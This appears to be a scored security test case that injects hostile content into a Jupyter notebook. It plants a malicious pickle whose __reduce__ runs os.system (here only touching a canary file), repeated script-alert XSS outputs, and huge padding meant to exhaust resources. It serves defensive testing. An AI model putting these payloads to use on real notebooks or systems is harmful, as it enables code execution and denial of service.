# Tries: swell the notebook with outputs, attachments, widgets and a pickle in its metadata
# Earns: 5

# %% file
import base64, json, os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {root}/canaries/notebook_outputs",)
content = json.loads(notebook.read_text())
content["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"x": "w" * 1_500_000}}}}
content["metadata"]["pickled"] = base64.b64encode(pickle.dumps([Bomb(), "p" * 1_000_000])).decode()
for cell in content["cells"]:
    cell["attachments"] = {"image.png": {"image/png": "a" * 100_000}}
    if cell["cell_type"] == "code":
        text = {"text/html": "<script>alert(1)</script>" * 20_000}
        cell["outputs"] = [{"output_type": "display_data", "data": text, "metadata": {}}]
notebook.write_text(json.dumps(content))
